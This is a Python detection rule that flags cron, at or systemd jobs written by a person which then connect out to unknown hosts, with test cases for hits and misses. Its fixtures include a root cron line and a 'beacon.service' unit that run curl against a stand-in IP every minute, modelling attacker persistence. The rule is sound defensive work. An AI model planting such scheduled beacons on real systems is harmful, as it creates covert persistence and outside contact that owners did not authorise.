"""A person wrote what runs by itself (cron, at, a unit); what it starts then connects to somewhere unknown.

The writing alone is a hint; with the connection it is more. What packages bring, and robots, is passed over.
"""

from __future__ import annotations

from collections.abc import Iterable

import msgspec

from evidence.kind import Actor
from evidence.kinds.connection import Close, Open, Report
from evidence.kinds.file import Change, Create, Explanation, Rename
from evidence.kinds.process import Ancestor, Exec
from evidence.kinds.state import Changed

from ..bounded import remember
from ..by_person import by_person, is_change, is_explained, is_installer
from ..examples import DAY, SERVICE, WINDOW, alice, at_once, opened, sent
from ..record import Person, Record
from ..rule import Correlation, Finding, Parameter, Site, connections_out
from ..session_work import describe

_WINDOW = Parameter("window", 14, "days", "what is to stay waits until nobody looks")
_SOURCES = frozenset({"cron", "at", "units"})
_FOLDERS = ("/etc/cron", "/var/spool/cron/", "/var/spool/at/", "/etc/systemd/system/", "/etc/systemd/user/")
_UNITS = ("/etc/systemd/", "/run/systemd/")
_HOSTS_LIMIT = 20_000
_WRITTEN_LIMIT = 64
_NS = 1_000_000_000
_OUT_LIMIT = 64
_UNITS_LIMIT = 128
_OFTEN = 10 * _NS
"""What a unit connects to is noted no more often."""


class Written(msgspec.Struct, frozen=True):
    """Who wrote a file that has something run: time (UTC ns), uid of the event, path, what it runs."""

    time: int
    uid: str
    person: Person
    path: str
    runs: str = ""


class Out(msgspec.Struct, frozen=True):
    """A connection out of a unit or a job; starts are the unit's stem, or uids of what made the job."""

    time: int
    uid: str
    starts: tuple[str, ...]
    destination: str


class Host(msgspec.Struct, gc=False):
    """By uid of the event what was written; the last connections that jobs and units made to unknown places.

    names are what such a connection may be known by: the uids, and the stems of units. units has the last
    connection of each unit, for a change of the state is told some time after it.
    """

    written: dict[str, Written] = {}
    names: dict[str, None] = {}
    out: dict[str, Out] = {}
    units: dict[str, Out] = {}


class State(msgspec.Struct):
    """By agent."""

    hosts: dict[str, Host] = {}


def _step(state: State, record: Record, site: Site) -> Iterable[Finding]:
    body = record.event.body
    if isinstance(body, Open | Close | Report):
        starts = _starts(record, body) if body.direction == "out" else ()
        if not starts or not _goes_out(_host(state, record), record, (body, starts), site):
            return ()
        return _judge(_host(state, record), record, site)
    if not isinstance(body, Changed | Create | Change | Rename) or not _is_schedule(body):
        return ()
    person = by_person(record, site)
    if (
        person is None
        or is_explained(body.explained_by)
        or is_installer(body.actor)
        or is_change(record, site)
    ):
        return ()
    host = _host(state, record)
    path = (body.path if not isinstance(body, Changed) else body.path or body.subject) or ""
    runs = "; ".join(getattr(body, "added", None) or ())[:300]
    one = Written(record.event.time, record.uid, person, path, runs)
    remember(host.written, record.uid, one, _WRITTEN_LIMIT)
    for name in (record.uid, _stem(path)):
        remember(host.names, name, None, 2 * _WRITTEN_LIMIT)
    started = host.units.get(_stem(path))
    if started is not None and path.startswith(_UNITS):
        remember(host.out, started.uid, started, _OUT_LIMIT)
    return _judge(host, record, site)


def _host(state: State, record: Record) -> Host:
    host = state.hosts.get(record.agent)
    if host is None:
        host = Host()
        remember(state.hosts, record.agent, host, _HOSTS_LIMIT)
    return host


def _is_schedule(body: Changed | Create | Change | Rename) -> bool:
    """Return whether something new is made to run: a unit that is only enabled or tuned runs nothing new."""
    if isinstance(body, Changed):
        if body.source not in _SOURCES or not body.added:
            return False
        return body.source != "units" or any(".Exec" in line for line in body.added)
    if not body.path.startswith(_FOLDERS):
        return False
    return body.told_by is not None or not isinstance(body, Change) or body.added != ()


def _starts(record: Record, body: Open | Close | Report) -> tuple[str, ...]:
    """Return what made the process run: the events behind a person's job, and the stem of its unit."""
    causes = record.person.because if record.person is not None and record.person.how == "job" else ()
    unit = body.actor.unit if body.actor is not None else None
    return (*causes, _stem(unit)) if unit and not unit.endswith(".scope") else causes


def _goes_out(
    host: Host, record: Record, by: tuple[Open | Close | Report, tuple[str, ...]], site: Site
) -> bool:
    """Note a connection to an unknown place, and return whether something that was written started it."""
    body, starts = by
    is_named = not host.names.keys().isdisjoint(starts)
    former = host.units.get(starts[-1])
    if not is_named and former is not None and 0 <= record.event.time - former.time < _OFTEN:
        return False
    if site.is_known(body.remote.ip):
        return False
    out = Out(record.event.time, record.uid, starts, body.remote.ip)
    remember(host.units, starts[-1], out, _UNITS_LIMIT)
    if is_named:
        remember(host.out, f"{record.boot}|{body.flow}", out, _OUT_LIMIT)
    return is_named


def _stem(path: str) -> str:
    """Return what a unit's service, timer and drop-ins have in common: ``x`` of ``x.service.d/a.conf``."""
    parts = path.split("/")
    name = next((part[:-2] for part in parts if part.endswith(".d") and "." in part[:-2]), parts[-1])
    return name.rpartition(".")[0] or name


def _judge(host: Host, record: Record, site: Site) -> Iterable[Finding]:
    """Tell of each file that the event touched: it itself, or what it started."""
    window = int(site.number(_ID, _WINDOW) * DAY) * _NS
    for path in sorted({one.path for one in host.written.values()}):
        writings = [one for one in host.written.values() if one.path == path]
        last = max(writings, key=lambda one: (one.runs != "", one.time, one.uid))
        names = {one.uid for one in writings} | ({_stem(path)} if path.startswith(_UNITS) else set())
        first = min(one.time for one in writings)
        out = [one for one in host.out.values() if names & {*one.starts} and 0 <= one.time - first <= window]
        if record.uid in {*[one.uid for one in writings], *[one.uid for one in out]}:
            yield _finding(record, path, last, sorted(out, key=lambda one: (one.time, one.uid)))


def _finding(record: Record, path: str, last: Written, out: list[Out]) -> Finding:
    runs = f" ({last.runs})" if last.runs else ""
    then = f"; what it starts connected to {out[0].destination}" if out else ""
    return Finding(
        entity=f"{record.agent}|{path}",
        summary=f"{describe(last.person)} made {path} run by itself on {record.host}{runs}{then}",
        time=out[0].time if out else last.time,
        agent=record.agent,
        host=record.host,
        evidence=(last.uid, *[one.uid for one in out[:1]]),
        person=last.person,
        severity="medium" if out else "low",
        destination=out[0].destination if out else None,
        details={"path": path},
    )


_ID = "persistence-egress"
_UNIT = "/etc/systemd/system/beacon.service"
_CRON = "/etc/cron.d/sync"
_LINE = "* * * * * root /usr/bin/curl -s https://203.0.113.9/x"
_BEACON = Actor(pid=80, exe="/usr/bin/curl", uid=0, unit="beacon.service")
_NGINX = Actor(pid=81, exe="/usr/sbin/nginx", uid=0, unit="nginx.service")


def _unit(path: str = _UNIT, line: str = "Service.ExecStart=/usr/bin/curl", **fields: object) -> Changed:
    values = {"source": "units", "subject": path, "path": path, "change": "appeared", "added": (line,)}
    return Changed(**{**values, "actor": alice("/usr/bin/tee"), **fields})  # type: ignore[arg-type]


_TABLE = Changed(
    source="cron", subject=_CRON, path=_CRON, change="appeared", added=(_LINE,), actor=alice("/usr/bin/tee")
)
_JOB = Exec(
    pid=60,
    start=9_000_000_000,
    ppid=59,
    exe="/bin/sh",
    argv=("/bin/sh", "-c", "/usr/bin/curl -s https://203.0.113.9/x"),
    uid=0,
    auid=0,
    session=30,
    user="root",
    ancestry=(Ancestor(pid=59, exe="/usr/sbin/cron"), Ancestor(pid=3, exe="/usr/sbin/cron")),
)
_FETCH = Actor(pid=60, start=9_000_000_000, exe="/bin/sh", uid=0, auid=0, session=30)

CORRELATION = Correlation(
    id=_ID,
    version=1,
    title="What a person made run by itself connects out",
    severity="medium",
    attack=("T1053.003", "T1543.002"),
    kinds=(Changed, Create, Change, Rename, Open, Close, Report),
    state=State,
    step=_step,
    parameters=(_WINDOW,),
    connections=connections_out,
    hits=(
        at_once("a unit of theirs connects out", opened(), _unit(), sent(900, actor=_BEACON)),
        at_once(
            "by a timer of its name",
            opened(),
            _unit("/etc/systemd/system/beacon.timer", "Service.ExecStart=/x"),
            sent(900, actor=_BEACON),
        ),
        at_once("a table of cron", opened(), _TABLE, _JOB, sent(900, actor=_FETCH)),
        at_once("the writing alone: a hint", opened(), _TABLE),
        at_once(
            "no sensor of state, only the file", opened(), Create(path=_CRON, actor=alice("/usr/bin/vi"))
        ),
        at_once(
            "a drop-in for a service that was there",
            opened(),
            _unit("/etc/systemd/system/nginx.service.d/x.conf", "Service.ExecStartPost=/x"),
            sent(900, actor=_NGINX),
        ),
    ),
    misses=(
        at_once(
            "apt installs a timer",
            opened(),
            _unit(explained_by=Explanation(package="apt", matches=True)),
            sent(900, actor=_BEACON),
        ),
        at_once("dpkg writes it for a person", opened(), _unit(actor=alice("/usr/bin/dpkg"))),
        at_once(
            "a packaged unit is enabled", opened(), _unit(line="link to /lib/systemd/system/nginx.service")
        ),
        at_once("a unit's memory is limited", opened(), _unit(line="Service.MemoryMax=1G")),
        at_once("a service writes its own", _unit(actor=Actor(pid=5, uid=0)), sent(900, actor=_BEACON)),
        at_once("another unit connects out", opened(), sent(900, actor=_NGINX)),
        at_once("announced work", opened(), _unit(), sent(900, actor=_BEACON), organisation=WINDOW),
        at_once("a robot's account", opened(), _unit(), sent(900, actor=_BEACON), organisation=SERVICE),
    ),
)
